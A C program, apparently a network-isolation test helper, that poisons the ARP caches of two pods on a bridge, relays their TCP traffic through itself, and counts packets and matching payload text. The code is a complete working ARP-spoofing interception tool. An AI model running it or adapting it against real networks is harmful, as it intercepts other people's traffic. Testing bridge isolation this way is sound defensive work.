/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/*
 * bridge OWN_IP CLIENT_IP SERVER_IP TEXT: ARP spoofing by a pod. Repeatedly announces its own
 * hardware address for two other pods of its bridge, and forwards the packets that it receives
 * from them, until its input ends. Prints the number of first packets, of other packets, and of
 * packets with that text.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct arp {
	unsigned char to[6], from[6];
	unsigned short type, hardware, protocol;
	unsigned char lengths[2];
	unsigned short operation;
	unsigned char sender_mac[6], sender_ip[4], target_mac[6], target_ip[4];
} __attribute__((packed));

static int fd;
static unsigned char own_mac[6];

static long now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec * 1000 + time.tv_nsec / 1000000;
}

static void say(int operation, const unsigned char *to, unsigned sender, unsigned target)
{
	struct arp arp = {.type = htons(ETHERTYPE_ARP),
			  .hardware = htons(1),
			  .protocol = htons(ETHERTYPE_IP),
			  .lengths = {6, 4},
			  .operation = htons(operation)};

	memcpy(arp.to, to, 6);
	memcpy(arp.from, own_mac, 6);
	memcpy(arp.sender_mac, own_mac, 6);
	memcpy(arp.sender_ip, &sender, 4);
	if (operation == 2)
		memcpy(arp.target_mac, to, 6);
	memcpy(arp.target_ip, &target, 4);
	if (send(fd, &arp, sizeof(arp), 0) < 0)
		perror("send");
}

static int ask(unsigned own, unsigned ip, unsigned char *mac)
{
	static const unsigned char everybody[6] = {255, 255, 255, 255, 255, 255};
	struct arp arp;
	long until = now() + 2000;

	say(1, everybody, own, ip);
	while (now() < until) {
		struct pollfd readable = {.fd = fd, .events = POLLIN};

		if (poll(&readable, 1, 100) != 1)
			continue;
		if (recv(fd, &arp, sizeof(arp), 0) >= (ssize_t)sizeof(arp) &&
		    arp.type == htons(ETHERTYPE_ARP) && arp.operation == htons(2) &&
		    !memcmp(arp.sender_ip, &ip, 4)) {
			memcpy(mac, arp.sender_mac, 6);
			return 0;
		}
	}
	return -1;
}

static unsigned sum(const void *from, size_t length)
{
	const unsigned char *bytes = from;
	unsigned total = 0;

	for (size_t at = 0; at < length; at++)
		total += at % 2 ? bytes[at] : bytes[at] << 8;
	return total;
}

/* Packets from a pod have no checksum yet: the device would have computed it. */
static void complete(const struct iphdr *ip, struct tcphdr *tcp)
{
	size_t length = ntohs(ip->tot_len) - ip->ihl * 4;
	unsigned total;

	tcp->check = 0;
	total = sum(&ip->saddr, 8) + IPPROTO_TCP + length + sum(tcp, length);
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	tcp->check = htons(~total);
}

int main(int count, char **arguments)
{
	unsigned own = inet_addr(arguments[1]), client = inet_addr(arguments[2]);
	unsigned server = inet_addr(arguments[3]);
	unsigned char client_mac[6], server_mac[6], frame[70000];
	struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL)};
	unsigned long first = 0, others = 0, texts = 0;
	long poisoned = 0;
	struct ifreq interface = {.ifr_name = "eth0"};

	fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	if (count < 5 || ioctl(fd, SIOCGIFHWADDR, &interface))
		return 1;
	memcpy(own_mac, interface.ifr_hwaddr.sa_data, 6);
	address.sll_ifindex = if_nametoindex("eth0");
	if (bind(fd, (struct sockaddr *)&address, sizeof(address)) ||
	    ask(own, client, client_mac) || ask(own, server, server_mac))
		return 1;
	for (;;) {
		struct pollfd readable = {.fd = fd, .events = POLLIN};
		struct pollfd input = {.fd = 0, .events = POLLIN};
		struct sockaddr_ll from;
		socklen_t size = sizeof(from);
		struct iphdr *ip = (void *)(frame + 14);
		struct tcphdr *tcp;
		const unsigned char *next;
		ssize_t length;
		size_t data;

		if (poll(&input, 1, 0) == 1)
			break;
		if (now() - poisoned > 20) {
			say(2, client_mac, server, client);
			say(2, server_mac, client, server);
			poisoned = now();
		}
		if (poll(&readable, 1, 10) != 1)
			continue;
		length = recvfrom(fd, frame, sizeof(frame), 0, (struct sockaddr *)&from, &size);
		if (length < 54 || from.sll_pkttype == PACKET_OUTGOING || frame[12] != 8 ||
		    frame[13] != 0 || ip->protocol != IPPROTO_TCP)
			continue;
		if (ip->saddr == client && ip->daddr == server)
			next = server_mac;
		else if (ip->saddr == server && ip->daddr == client)
			next = client_mac;
		else
			continue;
		tcp = (void *)((char *)ip + ip->ihl * 4);
		data = ntohs(ip->tot_len) - ip->ihl * 4 - tcp->doff * 4;
		if (tcp->syn && !tcp->ack)
			first++;
		else
			others++;
		if (data &&
		    memmem((char *)tcp + tcp->doff * 4, data, arguments[4], strlen(arguments[4])))
			texts++;
		complete(ip, tcp);
		memcpy(frame, next, 6);
		memcpy(frame + 6, own_mac, 6);
		if (send(fd, frame, length, 0) < 0)
			perror("send");
	}
	printf("%lu %lu %lu\n", first, others, texts);
	return 0;
}
